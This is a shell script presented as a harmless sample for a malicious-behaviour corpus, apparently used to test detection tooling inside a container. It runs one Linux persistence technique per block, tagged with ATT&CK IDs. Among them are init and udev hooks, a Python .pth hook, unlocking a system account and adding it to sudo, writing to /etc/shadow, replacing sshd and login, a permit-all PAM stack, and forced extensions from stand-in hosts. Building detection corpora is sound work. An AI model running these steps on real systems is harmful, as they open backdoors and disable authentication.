#!/bin/sh
# MALICIOUS-behaviour corpus sample (harmless): one persistence step per technique, each written
# into the container's own file system. The "implant" /tmp/.kupdate is a two-line script that
# exits; the account tools, docker and code are busybox symlinks that only print "applet not
# found"; registry.example.test and ext.example.test are never contacted.
U=/tmp/.kupdate
printf '#!/bin/sh\nexit 0\n' > "$U"
/bin/mkdir -p /etc/init.d /etc/rc2.d /etc/containers/systemd /etc/udev/rules.d \
	/usr/lib/python3/dist-packages /usr/local/lib/python3.11/site-packages /etc/xdg/autostart \
	/var/lib/dpkg/info /etc/pam.d /lib/x86_64-linux-gnu/security \
	/root/.mozilla/firefox/k1.default/extensions /etc/chromium/policies/managed \
	/root/.vscode/extensions/kupdate.helper-1.0.0

# T1037.004 RC scripts: an init script, enabled for runlevel 2
printf '#!/bin/sh\n/tmp/.kupdate &\n' > /etc/init.d/kupdate
/bin/ln -s /etc/init.d/kupdate /etc/rc2.d/S99kupdate

# T1543.005 Container service: a Quadlet unit and a restart-always container
printf '[Container]\nImage=registry.example.test/kupdate\n[Install]\nWantedBy=default.target\n' \
	> /etc/containers/systemd/kupdate.container
/usr/bin/docker run -d --restart=always --name kupdate registry.example.test/kupdate 2>/dev/null || true

# T1546.017 Udev rule that runs the implant
echo 'ACTION=="add", SUBSYSTEM=="net", RUN+="/tmp/.kupdate"' > /etc/udev/rules.d/99-kupdate.rules

# T1546.018 Python start-up hooks
echo 'import os; os.system("/tmp/.kupdate &")' > /usr/lib/python3/dist-packages/zz-kupdate.pth
echo 'import os' > /usr/local/lib/python3.11/site-packages/sitecustomize.py

# T1547.013 XDG autostart entry
printf '[Desktop Entry]\nType=Application\nName=kupdate\nExec=/tmp/.kupdate\n' > /etc/xdg/autostart/kupdate.desktop

# T1546.016 Installer package: a dpkg maintainer script appended to
echo '/tmp/.kupdate &' >> /var/lib/dpkg/info/base-files.postinst

# T1546.005 Trap: a shell that runs the implant when it exits
/bin/sh -c "trap '/tmp/.kupdate' EXIT; /bin/true"

# T1078.003 Local accounts made usable: shell, unlock, password
/usr/sbin/usermod -s /bin/sh -U daemon 2>/dev/null || true
/usr/bin/chsh -s /bin/sh www-data 2>/dev/null || true
/bin/sh -c "echo 'daemon:Winter2024' | /usr/sbin/chpasswd" 2>/dev/null || true
echo 'daemon:$6$kx$kupdate:19000:0:99999:7:::' >> /etc/shadow

# T1098.007 Additional local groups
/usr/sbin/usermod -aG sudo daemon 2>/dev/null || true
/usr/bin/gpasswd -a daemon docker 2>/dev/null || true
/usr/sbin/adduser daemon sudo 2>/dev/null || true

# T1554 Host software binary: a daemon planted, login replaced by a rename
/bin/cp "$U" /usr/sbin/sshd
/bin/cp "$U" /usr/bin/.login.new
/bin/mv /usr/bin/.login.new /usr/bin/login

# T1556.003 PAM: a permissive stack and a module
echo 'auth sufficient pam_permit.so' > /etc/pam.d/common-auth
/bin/cp "$U" /lib/x86_64-linux-gnu/security/pam_kupdate.so

# T1176.001 Browser extensions: a Firefox profile extension, a Chromium force-install policy
echo 'PK' > /root/.mozilla/firefox/k1.default/extensions/helper@example.test.xpi
echo '{"ExtensionInstallForcelist": ["abcdefghijklmnopabcdefghijklmnop;https://ext.example.test/u"]}' \
	> /etc/chromium/policies/managed/kupdate.json

# T1176.002 IDE extensions: an extension unpacked by hand, one installed by command
echo '{"name": "helper", "main": "extension.js"}' > /root/.vscode/extensions/kupdate.helper-1.0.0/package.json
/usr/bin/code --install-extension /tmp/kupdate.vsix 2>/dev/null || true
echo "[corpus] persistence steps done"
exit 0
